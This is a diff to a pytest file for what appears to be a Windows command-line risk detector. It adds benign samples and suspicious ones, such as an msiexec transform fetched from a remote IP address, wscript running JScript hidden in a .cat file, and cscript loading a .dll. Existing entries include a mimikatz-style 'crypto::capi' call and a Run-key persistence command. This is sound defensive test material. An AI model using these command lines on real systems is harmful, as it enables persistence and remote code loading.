@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 from codesignrisk_core.triage.lines import LONGEST, Search
-from codesignrisk_core.triage.programs import EVERYDAY, PLAIN, POWERSHELL, READER, UNNAMED, WRAPPER
+from codesignrisk_core.triage.programs import EVERYDAY, PLAIN, POWERSHELL, READER, SCRIPT_HOST, UNNAMED, WRAPPER
 
 LEFT_OUT = [
     (PLAIN, "chrome.exe --type=renderer --field-trial-handle=1988,i,12,34,262144 /prefetch:1"),
@@ -19,6 +19,8 @@ LEFT_OUT = [
     (POWERSHELL, "powershell -Command \"& { $p = Get-Process -Id 7; if ($p) { $p.StartTime.ToString('o') } }\""),
     (EVERYDAY, "reg query HKLM\\Software\\Vendor /v Version"),
     (EVERYDAY, '"C:\\Windows\\System32\\rundll32.exe" shell32.dll,SHCreateLocalServer {0}'),
+    (EVERYDAY, "C:\\Windows\\System32\\msiexec.exe /V"),
+    (SCRIPT_HOST, 'cscript.exe //nologo "C:\\Agent\\checks\\uptime.vbs"'),
 ]
 TOLD = [
     (PLAIN, "x.exe crypto::capi"),
@@ -53,6 +55,10 @@ TOLD = [
     (EVERYDAY, "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /d certutil"),
     (EVERYDAY, "rundll32 cryptext.dll,CryptExtAddCER x"),
     (EVERYDAY, "reg.exe import x.reg"),
+    (EVERYDAY, "msiexec /i a.msi TRANSFORMS=http://203.0.113.8/x.mst"),
+    (SCRIPT_HOST, "wscript //e:jscript C:\\d\\oem.cat"),
+    (SCRIPT_HOST, "cscript.exe x.dll"),
+    (SCRIPT_HOST, "cscript.exe x.vbs %1"),
 ]
 
 
